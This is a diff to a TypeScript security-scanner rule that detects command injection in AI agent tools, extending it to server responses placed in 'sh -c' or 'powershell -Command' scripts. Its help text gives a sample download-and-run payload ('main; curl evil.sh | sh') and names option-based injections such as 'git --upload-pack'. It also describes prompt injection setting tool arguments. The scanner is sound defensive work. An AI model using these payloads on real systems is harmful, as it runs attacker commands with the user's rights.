@@ -57,7 +57,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line (also the script of `sh -c` or `powershell -Command` in an argument array), or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; a vector held in a local array (declared with a literal, then only `push`ed to) is read element by element like the literal itself; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -101,13 +101,14 @@ export const commandInjection: Rule = {
       const capability = declaredCapability(ctx, u);
       reportFlow(ctx, u, what, capability?.advice ?? SHELL_FIX, undefined, "", capability);
     }
-    reportResponseValuesInShellLines(ctx, reportedHits);
+    const scriptHits = new Set<SinkHit>();
     for (const u of untrustedFlows(ctx, "command-argument", OPTION_GUARDS)) {
       const risk = argumentVectorRisk(u.hit, ctx.taint, u.flow);
       if (risk.kind === "safe") continue;
       if (risk.kind === "shell") {
         const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", GUARDS, u.hit));
         if (flow) reportFlow(ctx, { hit: u.hit, flow }, `as the script of \`${risk.shell} -c\`, a shell command line`, SHELL_FIX, "critical", "shell");
+        if (flow) scriptHits.add(u.hit);
         continue;
       }
       // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
@@ -117,6 +118,7 @@ export const commandInjection: Rule = {
       if (!flow) continue;
       reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array");
     }
+    reportResponseValuesInShellLines(ctx, reportedHits, scriptHits);
   },
 };
 
@@ -190,8 +192,8 @@ function shellLineProgram(hit: SinkHit): { program?: string; subcommand?: string
  * request, or sits between, writes part of a command. Fetched text run as the
  * command itself is download-and-execute's; this is the operand case.
  */
-function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<SinkHit>): void {
-  const responseFlow = (hit: SinkHit) => hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes("command-injection") && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
+function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<SinkHit>, skipScripts: ReadonlySet<SinkHit>): void {
+  const responseFlow = (hit: SinkHit, kind = "command-injection") => hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes(kind) && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
   for (const hit of ctx.taint.hitsOf("command-injection")) {
     if (skip.has(hit)) continue;
     const programPosition = hit.argument === "Argument[0]" && !SHELL_STRING_API.test(hit.callee) && !hasShellOption(hit);
@@ -199,6 +201,15 @@ function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<Si
     const flow = responseFlow(hit);
     if (!flow) continue;
     reportResponseValue(ctx, hit, flow, "as part of a shell command line: whoever answers that request writes part of the command", RESPONSE_IN_SHELL_FIX);
+  }
+  // The script of a shell in an argument array (`spawn("powershell", ["-Command", `Start-Process '${url}'`])`) is a shell line too.
+  for (const hit of ctx.taint.hitsOf("command-argument")) {
+    if (skipScripts.has(hit)) continue;
+    const flow = responseFlow(hit, "command-argument");
+    if (!flow) continue;
+    const risk = argumentVectorRisk(hit, ctx.taint, flow);
+    if (risk.kind !== "shell") continue;
+    reportResponseValue(ctx, hit, flow, `as the script of \`${risk.shell} -c\`, a shell command line: whoever answers that request writes part of the command`, RESPONSE_IN_SHELL_FIX);
   }
   // The system opener starts what a target names: a server's answer picks the app or file (on Windows, part of a command line).
   // A piece after a fixed URL's authority (a query value, a path) cannot change what is opened.
